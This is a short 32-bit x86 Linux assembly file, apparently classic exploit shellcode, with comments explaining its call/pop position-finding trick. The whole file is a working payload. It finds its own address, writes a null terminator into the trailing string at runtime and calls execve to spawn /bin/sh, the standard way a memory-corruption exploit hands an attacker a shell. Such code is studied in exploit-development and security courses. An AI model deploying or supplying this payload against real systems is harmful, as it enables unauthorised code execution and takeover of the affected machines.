; GetPC by call/pop: call the next instruction, pop the return address, and
; address the string after the code from it; terminates the string in place.
BITS 32
    call next
next:
    pop esi
    lea ebx, [esi + path - next]
    xor eax, eax
    mov [ebx + 7], al
    push eax
    push ebx
    mov ecx, esp
    cdq
    mov al, 11                  ; execve
    int 0x80
path:
    db "/bin/shX"
